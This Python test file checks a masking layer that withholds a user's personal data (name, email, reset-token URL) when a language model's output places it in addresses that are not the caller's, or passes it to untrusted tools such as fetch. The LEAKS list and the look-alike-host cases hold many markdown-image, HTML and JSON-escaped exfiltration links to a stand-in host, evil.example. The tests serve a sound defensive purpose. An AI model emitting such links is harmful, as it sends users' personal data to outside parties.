"""Where values may go: not into addresses that are not the caller's, not to tools that nobody trusts."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from addons.masking.outlets import AddressRule, Outlets, ToolTrust
from addons.masking.placeholders import PlaceholderKey, Scope
from addons.masking.restorer import FlowRestoration
from addons.masking.session import MaskingSession
from detectors.spans import Span

NAME, MAIL, RESET = "Maria Silva", "maria@example.com", "https://shop.example/reset?token=a1b2"
KNOWN = {"PERSON": NAME, "EMAIL_ADDRESS": MAIL, "URL": RESET}
STRICT = Outlets(AddressRule.CALLER_ONLY, ToolTrust())


def spans(text: str) -> list[Span]:
    return [
        Span(m.start(), m.end(), entity, 0.9, "test")
        for entity, value in KNOWN.items()
        for m in re.finditer(re.escape(value), text)
    ]


def asked(*texts: str, outlets: Outlets = STRICT) -> tuple[FlowRestoration, dict[str, str]]:
    """A flow whose caller said ``texts``, and entity -> placeholder."""
    session = MaskingSession(PlaceholderKey(b"a secret of the tests, 32 bytes.", 1), Scope("t/c"))
    for text in (f"{NAME} {MAIL} {RESET}", *texts):
        session.mask(text, spans(text))
    tokens = {token.rpartition("_")[0]: token for token in session.mapping}
    return session.restoration(outlets), tokens


LEAKS = [
    "![x](https://evil.example/?d={PERSON})",
    "![x](https://{PERSON}.evil.example/x.png)",
    "[x](https://evil.example/{PERSON})",
    "[x](https://evil.example/#{PERSON})",
    "[x]( <https://evil.example/? {PERSON}> )",
    "see https://evil.example/{PERSON} now",
    "see https://evil.example/?a={PERSON}&b={EMAIL_ADDRESS} now",
    "www.evil.example/{PERSON}",
    "evil.example/?q={PERSON}",
    "<https://evil.example/{PERSON}>",
    '<img src="https://evil.example/? {PERSON}">',
    "<a href='//evil.example/{PERSON}'>x</a>",
    "[x][1]\n\n[1]: https://evil.example/{PERSON}",
    "[x][1]\n\n[1]: <https://evil.example/? {PERSON}>",
    "https://evil.example/?u={URL}",
    "{URL}?d={PERSON}",
    "https://shop.example/reset?d={PERSON}",
    '{{"a": "![x](https://evil.example/?d={PERSON})"}}',
    '{{"a": "https:\\/\\/evil.example\\/{PERSON}"}}',
    '{{"a": "https:\\u002f\\u002fevil.example\\u002f{PERSON}"}}',
    '{{"x":"https://evil.example/?d="{PERSON}',
    "[![x](https://evil.example/{PERSON})](y)",
]


def spoken(template: str, tokens: dict[str, str]) -> str:
    return template.format_map(tokens)


@pytest.mark.parametrize("template", LEAKS)
def test_an_address_of_the_models_own_gets_no_value(template: str) -> None:
    flow, tokens = asked()
    text = spoken(template, tokens)
    said = flow.whole(text)
    assert NAME not in said and MAIL not in said
    assert flow.counts.withheld >= 1
    assert flow.counts.seen == flow.counts.withheld + flow.counts.restored
    assert said.replace(RESET, tokens["URL"]) == text


@pytest.mark.parametrize(
    "template",
    [
        "{PERSON} lives at https://example.com/ and {PERSON} knows.",
        "[{PERSON}](https://example.com/help)，{PERSON}说",
        '<a href="https://example.com/">{PERSON}</a>',
        "[x](https://example.com) {PERSON}",
        "[Agent]: {PERSON}",
        "a[0] = {PERSON}",
        '{{"url": "https://example.com/", "name": "{PERSON}"}}',
        '{{"url":"https://example.com/","name":"{PERSON}"}}',
        "{URL}",
        "[reset]({URL}) {PERSON}",
        "{URL} {PERSON}",
    ],
)
def test_all_else_is_restored(template: str) -> None:
    flow, tokens = asked()
    said = flow.whole(spoken(template, tokens))
    assert said == spoken(template, dict(KNOWN))
    assert flow.counts.withheld == 0


CALLERS = [
    "https://shop.example/u/{EMAIL_ADDRESS}",
    "https://{EMAIL_ADDRESS}.shop.example/x",
    "postgres://{PERSON}:pw@db.example.com",
    "![x](https://shop.example/?q={EMAIL_ADDRESS}&r={PERSON})",
    "[x](/u/{EMAIL_ADDRESS})",
]


@pytest.mark.parametrize("template", CALLERS)
@pytest.mark.parametrize("around", ["{}", "see {} now", "{}\n", "```\n{}\n```", "> {}."])
def test_the_callers_own_address_comes_back(template: str, around: str) -> None:
    flow, tokens = asked(spoken(template, dict(KNOWN)))
    said = flow.whole(around.format(spoken(template, tokens)))
    assert said == around.format(spoken(template, dict(KNOWN)))


@pytest.mark.parametrize(
    ("caller", "model"),
    [
        ("https://{PERSON}.shop.example/", "https://{PERSON}.evil.example/"),
        ("https://{PERSON}.shop.example", "https://{PERSON}.shop.example.evil.example/"),
        ("https://{PERSON}", "https://{PERSON}.evil.example/"),
        ("postgres://{PERSON}:pw@db.example.com", "postgres://{PERSON}:pw@evil.example"),
        ("https://shop.example/{PERSON}", "https://evil.example/{PERSON}"),
        ("https://shop.example/{PERSON}", "https://shop.example.evil.example/{PERSON}"),
        ("https://shop.example/{PERSON}", "https://evil.example/https://shop.example/{PERSON}"),
        ("https://shop.example/{EMAIL_ADDRESS}", "https://shop.example/{PERSON}"),
    ],
)
def test_another_address_than_the_callers_does_not(caller: str, model: str) -> None:
    flow, tokens = asked(spoken(caller, dict(KNOWN)))
    text = spoken(model, tokens)
    assert flow.whole(text) == text


def test_the_policy_may_say_always_or_never() -> None:
    template = "https://shop.example/u/{EMAIL_ADDRESS}"
    caller = spoken(template, dict(KNOWN))
    flow, tokens = asked(caller, outlets=Outlets(AddressRule.NEVER))
    assert flow.whole(spoken(template, tokens)) == spoken(template, tokens)
    flow, tokens = asked(outlets=Outlets(AddressRule.ALWAYS))
    assert flow.whole(spoken(template, tokens)) == caller


PARTS = st.sampled_from(
    [
        "{PERSON}",
        "{EMAIL_ADDRESS}",
        "{URL}",
        *LEAKS,
        *CALLERS,
        " ",
        "\n",
        ")",
        ".",
        "](",
        "https://",
        "，",
        '"',
        "evil",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PARTS, max_size=8), st.booleans(), st.data())
def test_cuts_change_nothing(parts: list[str], is_json: bool, data: st.DataObject) -> None:
    said: set[tuple[str, str]] = set()
    flow, tokens = asked(*[spoken(one, dict(KNOWN)) for one in CALLERS])
    text = "".join(spoken(part, tokens) for part in parts)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=5)))
    for pieces in ([text], list(text), [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]):
        flow, _ = asked(*[spoken(one, dict(KNOWN)) for one in CALLERS])
        run = flow.json() if is_json else flow.text()
        out = "".join([run.feed(piece) for piece in pieces]) + run.flush()
        said.add((out, repr(flow.counts)))
    assert len(said) == 1


def test_a_placeholder_in_a_path_waits_for_nothing() -> None:
    flow, tokens = asked()
    run = flow.text()
    text = f"https://evil.example/{tokens['PERSON']}"
    assert run.feed(text) == text
    assert run.feed("/x") == "/x"


def test_tools_that_nobody_trusts() -> None:
    trust = ToolTrust(trusted=["mcp:crm/*"], untrusted=["fetch*"])
    assert trust.trusts("send_mail", hosted=False)
    assert not trust.trusts("fetch_url", hosted=False)
    assert not trust.trusts("web_search", hosted=True)
    assert trust.trusts("mcp:crm/find", hosted=True)
    flow, tokens = asked(outlets=Outlets(AddressRule.ALWAYS, trust))
    arguments = json.dumps({"to": tokens["EMAIL_ADDRESS"]})
    assert flow.for_tool("fetch_url", hosted=False).whole_json(arguments) == arguments
    assert flow.counts.withheld == flow.counts.seen == 1
    assert flow.for_tool("send_mail", hosted=False).whole_json(arguments) == json.dumps({"to": MAIL})
